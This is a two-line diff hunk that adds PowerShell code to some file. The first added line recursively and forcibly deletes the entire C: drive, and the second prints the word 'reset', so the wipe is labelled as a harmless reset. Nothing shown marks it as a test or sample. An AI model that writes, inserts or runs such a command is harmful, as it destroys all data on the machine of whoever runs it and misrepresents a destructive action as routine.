@@ -1,0 +1,2 @@
+Remove-Item -Recurse -Force C:\
+Write-Host 'reset'
